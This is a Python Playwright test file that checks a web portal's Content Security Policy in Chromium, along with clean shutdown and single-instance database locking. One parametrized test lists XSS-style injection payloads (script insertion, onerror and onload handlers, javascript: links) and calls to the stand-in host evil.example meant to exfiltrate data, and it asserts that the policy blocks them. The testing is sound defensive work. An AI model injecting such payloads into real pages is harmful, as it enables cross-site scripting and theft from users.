"""The content policy in a real Chromium: pages work under it, and what somebody smuggles in does not run."""

from __future__ import annotations

import signal
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

from tests import running

if TYPE_CHECKING:
    from pathlib import Path

    from playwright.sync_api import BrowserContext, Page

    from tests.conftest import Templates

pytestmark = pytest.mark.browser


def _open(context: BrowserContext, served: running.Served) -> Page:
    page = context.new_page()
    page.goto(served.url)
    page.get_by_role("button").first.click()
    expect(page.get_by_test_id("stSidebar")).to_be_visible(timeout=20_000)
    expect(page.get_by_test_id("stStatusWidget")).to_have_count(0, timeout=20_000)
    return page


def test_a_page_of_the_desk_breaks_no_rule_and_asks_nobody_else(
    browser_context: BrowserContext, demo_portal: running.Served
) -> None:
    said: list[str] = []
    asked: list[str] = []
    browser_context.on("console", lambda message: said.append(message.text))
    browser_context.on("request", lambda request: asked.append(request.url))
    _open(browser_context, demo_portal)
    assert [text for text in said if "Content Security" in text or "Permissions-Policy" in text] == []
    own = (demo_portal.url, demo_portal.url.replace("http", "ws", 1), "data:", "blob:")
    assert [url for url in asked if not url.startswith(own)] == []


@pytest.mark.parametrize(
    "smuggle",
    [
        "const e = document.createElement('script'); e.textContent = 'window.ran = 1'; document.body.append(e)",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = 1\">')",
        "document.body.insertAdjacentHTML('beforeend', '<svg onload=\"window.ran = 1\"></svg>')",
        "const e = document.createElement('script'); e.src = 'https://evil.example/x.js'; document.body.append(e)",
        "const a = document.createElement('a'); a.href = 'javascript:window.ran = 1'; document.body.append(a); a.click()",
        "document.body.insertAdjacentHTML('beforeend', '<object data=\"data:text/html,x\"></object>')",
        "const i = new Image(); i.src = 'https://evil.example/beacon.png'",
        "fetch('https://evil.example/steal').catch(() => {})",
        "new WebSocket('wss://evil.example/')",
    ],
)
def test_what_is_smuggled_into_a_page_is_blocked(
    browser_context: BrowserContext, demo_portal: running.Served, smuggle: str
) -> None:
    page = browser_context.new_page()
    page.goto(f"{demo_portal.url}/_stcore/health")  # carries the same headers, and is there at once
    page.evaluate(
        "() => { window.blocked = []; document.addEventListener('securitypolicyviolation', "
        "event => window.blocked.push(event.effectiveDirective)) }"
    )
    page.evaluate(f"() => {{ {smuggle} }}")
    page.wait_for_function("() => window.blocked.length > 0", timeout=5000)
    assert page.evaluate("window.ran") is None


def test_a_frame_inherits_the_policy(browser_context: BrowserContext, demo_portal: running.Served) -> None:
    page = browser_context.new_page()
    page.goto(f"{demo_portal.url}/_stcore/health")
    page.evaluate(
        "() => new Promise(loaded => { const frame = document.createElement('iframe'); frame.onload = loaded; "
        "frame.srcdoc = '<script>parent.ran = 1</script>'; document.body.append(frame) })"
    )
    assert page.evaluate("window.ran") is None


@pytest.mark.parametrize("how", [signal.SIGTERM, signal.SIGINT])
def test_a_portal_ends_in_good_order_with_a_page_open(
    browser_context: BrowserContext, templates: Templates, tmp_path: Path, how: signal.Signals
) -> None:
    url = templates.copy("sqlite", True, lambda: "")
    with running.portal(tmp_path, url) as served:
        _open(browser_context, served)
        served.process.send_signal(how)
        # uvicorn closes everything in order and then passes the signal on.
        assert served.process.wait(running.STOPS_WITHIN_SECONDS) in (0, -how)
        assert "Traceback" not in served.said()


def test_a_portal_holds_its_database_alone(templates: Templates, tmp_path: Path) -> None:
    url = templates.copy("sqlite", False, lambda: "")
    with running.portal(tmp_path, url) as served:
        other = {**served.environment, "PORTAL_PORT": str(running.free_port())}
        second = running.command("run", "--demo", env=other, cwd=tmp_path)
        assert second.returncode == 2
        assert f"(process {served.process.pid}) already serves" in second.stderr
        taken = running.command("run", "--demo", env=served.environment, cwd=tmp_path)
        assert taken.returncode == 2
        assert "PORTAL_PORT" in taken.stderr
        served.process.kill()
        served.process.wait()
    with running.portal(tmp_path, url):  # the lock went with the process
        pass
